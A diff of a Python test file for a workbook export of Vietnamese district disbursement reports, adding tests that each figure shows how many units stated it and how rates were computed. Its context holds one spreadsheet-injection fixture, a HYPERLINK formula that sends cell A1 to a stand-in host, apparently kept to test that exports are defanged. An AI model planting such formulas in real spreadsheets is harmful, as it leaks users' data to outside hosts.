@@ -10,6 +10,7 @@ from openpyxl import Workbook, load_workbook
 from district_reports.exports.workbook.build import build_workbook
 from district_reports.warehouse.releases.published import PublishedRelease
 
+STATED_BY = "Số đơn vị nêu số này"
 EVIL_NAME = '=HYPERLINK("http://example.invalid/?"&A1,"Suối Mơ")'
 
 
@@ -39,17 +40,19 @@ def test_sheets_are_in_reading_order(workbook: Workbook):
 
 def test_every_row_is_followed_by_the_units_it_is_made_of(workbook: Workbook):
     assert column(workbook, "Giải ngân", "Đơn vị báo cáo") == [
-        "Tổng cộng", "Suối Mơ", "Núi Xa", "Tổng cộng", "Núi Xa", "Tổng cộng", "Suối Mơ",
+        "Tổng cộng", STATED_BY, "Suối Mơ", "Núi Xa",
+        "Tổng cộng", STATED_BY, "Núi Xa",
+        "Tổng cộng", STATED_BY, "Suối Mơ",
     ]  # fmt: skip
 
 
 def test_money_is_exact_and_what_is_not_stated_is_empty(release: PublishedRelease):
     shown = read(release, results=True)
     assert column(shown, "Giải ngân", "Đã giải ngân (đồng)") == [
-        35_000_000, 30_000_000, 5_000_000, None, None, 16_740_000, 16_740_000,
+        35_000_000, 2, 30_000_000, 5_000_000, None, None, None, 16_740_000, 1, 16_740_000,
     ]  # fmt: skip
     assert column(shown, "Giải ngân", "Vốn giao (đồng)") == [
-        100_000_000, 90_000_000, 10_000_000, None, "không thuộc", None, None,
+        100_000_000, 2, 90_000_000, 10_000_000, None, None, "không thuộc", None, None, None,
     ]  # fmt: skip
 
 
@@ -73,6 +76,33 @@ def find(workbook: Workbook, sheet: str, value: object) -> str:
     return cell.offset(0, 1).coordinate if isinstance(value, str) else cell.coordinate
 
 
+def test_each_number_tells_of_how_many_units_it_is_and_a_rate_how_it_was_made(one_sided: PublishedRelease):
+    shown = read(one_sided, results=True)
+    told = {row[0]: row[4:] for row in shown["Tổng hợp"].iter_rows(values_only=True)}
+    assert told["Vốn giao"] == (2, 3, None)
+    assert told["Đã giải ngân"] == (1, 3, None)
+    assert told["Tỷ lệ giải ngân"] == (1, 3, "30,0 ÷ 90,0 triệu đồng của 1 đơn vị nêu cả hai số")
+    assert column(shown, "Giải ngân", "Đã giải ngân (đồng)")[:2] == [30_000_000, 1]
+    rate, *_ = [cell for row in shown["Giải ngân"].iter_rows() for cell in row if cell.value == 33.33]
+    assert "30,0 ÷ 90,0 triệu đồng" in rate.comment.text
+
+
+def test_number_of_units_follows_when_another_one_states_the_number(one_sided: PublishedRelease):
+    workbook = read(one_sided)
+    place = find(workbook, "Tổng hợp", "Đã giải ngân").replace("B", "E")
+    assert work_out(workbook, "Tổng hợp", place) == 1
+    silent = next(row for row in workbook["Giải ngân"].iter_rows() if row[1].value == "Núi Xa")
+    disbursed = workbook["Giải ngân"][find(workbook, "Giải ngân", 30_000_000)].column
+    silent[disbursed - 1].value = 5_000_000
+    assert work_out(workbook, "Tổng hợp", place) == 2
+
+
+def test_rates_of_units_are_told_where_they_are_not_added_up(with_targets: PublishedRelease):
+    shown = read(with_targets, results=True)
+    assert column(shown, "Kết quả chỉ tiêu", "Mức thực hiện") == ["45,5 đến 60,0", 2, 45.5, 60]
+    assert column(shown, "Kết quả chỉ tiêu", "Mức đề ra") == ["48", 1, 48, None]
+
+
 def test_number_that_is_no_sum_of_its_units_is_written_as_it_was_released(release: PublishedRelease):
     divided = release.rows("disbursement")[0] | {"assigned_vnd": 55_000_000, "is_exact": False}
     rows = [divided, *release.rows("disbursement")[1:]]
@@ -82,10 +112,10 @@ def test_number_that_is_no_sum_of_its_units_is_written_as_it_was_released(releas
 
 def test_every_unit_has_a_row_whether_it_reported_or_not(release: PublishedRelease):
     shown = read(release, results=True)
-    assert column(shown, "Theo đơn vị", "Đơn vị báo cáo") == ["Tổng cộng", "Suối Mơ", "Núi Xa", "Đèo Gió"]
+    assert column(shown, "Theo đơn vị", "Đơn vị báo cáo") == ["Tổng cộng", STATED_BY, "Suối Mơ", "Núi Xa", "Đèo Gió"]
     assert column(shown, "Theo đơn vị", "Tình trạng")[-1] == "chưa gửi báo cáo"
     [rates] = [c for c in shown["Theo đơn vị"].iter_cols(values_only=True) if "Tỷ lệ giải ngân: Toàn" in str(c)]
-    assert [float(value) for value in rates[-4:-1]] == [35.0, 33.33, 50.0]
+    assert [float(value) for value in rates[-5:-1]] == [35.0, 2, 33.33, 50.0]
 
 
 def test_units_that_are_missing_or_held_are_listed_with_the_rules_that_hold_them(release: PublishedRelease):
